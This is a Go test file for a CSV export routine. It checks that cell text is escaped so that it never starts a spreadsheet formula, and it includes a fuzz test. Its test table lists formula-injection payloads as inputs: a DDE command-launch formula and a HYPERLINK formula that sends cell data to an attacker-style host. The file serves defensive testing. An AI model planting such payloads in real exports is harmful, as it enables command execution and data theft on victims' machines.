package api

import (
	"encoding/csv"
	"strings"
	"testing"
)

// Foreign text never becomes a formula: not at the start of a cell, not in full
// width, not after the separators of other spreadsheets. Other text is
// unchanged.
func TestHarmless(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"": "", "Ann": "Ann", "Anna-Lena": "Anna-Lena", "a+b@example.com": "a+b@example.com", "3 - 2 = 1": "3 - 2 = 1",
		"李雷": "李雷", "O'Brien": "O'Brien",
		`=1+1`: `'=1+1`, `+4915112345678`: `'+4915112345678`, `-2+3+cmd|' /C calc'!A0`: `'-2+3+cmd|' /C calc'!A0`, `@SUM(1,2)`: `'@SUM(1,2)`,
		`=HYPERLINK("http://evil.example?x="&A1,"click")`: `'=HYPERLINK("http://evil.example?x="&A1,"click")`,
		`=cmd|' /C calc'!A0`:                              `'=cmd|' /C calc'!A0`,
		"\t=1":                                            "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", " =1": " '=1",
		"\u00a0=1": "\u00a0'=1", "\u3000=1": "\u3000'=1",
		"\ufeff=1": "\ufeff'=1", "\x00=1": "'=1",
		"＝1+1": "'＝1+1", "＋1": "'＋1", "－1": "'－1", "＠A": "'＠A", "%0A=1": "'%0A=1", "|calc": "'|calc",
		`";=1+1`: `";'=1+1`, "a;=1": "a;'=1", "a,=1": "a,'=1", "a\n=1": "a\n'=1", "a\r\n@x": "a\r\n'@x", `"=1`: `"'=1`,
		"Smith; -": "Smith; '-", "a\x07b": "ab",
	} {
		if got := harmless(text); got != want {
			t.Errorf("%q: got %q, want %q", text, got, want)
		}
	}
}

// With any text in a cell, the line stays one line of as many cells, and no
// cell begins a formula.
func FuzzAppendRow(f *testing.F) {
	for _, seed := range []string{"=1+1", `a"b`, "a\r\n=b", "\ufeff\u3000＝x", ";@", "\x00-"} {
		f.Add(seed, "plain")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		line := string(appendRow(nil, []string{a, b}))
		rows, err := csv.NewReader(strings.NewReader(line)).ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 2 {
			t.Fatalf("got %q of %q, %q: %v", line, a, b, err)
		}
		for _, cell := range rows[0] {
			for _, part := range strings.FieldsFunc(cell, ends) {
				// A part that begins the cell, or follows a separator.
				if strings.ContainsAny(string([]rune(strings.TrimLeft(part, " \u00a0\u3000\ufeff") + " ")[0]), "=+-@＝＋－＠") {
					t.Errorf("%q begins a formula in %q", part, line)
				}
			}
		}
	})
}
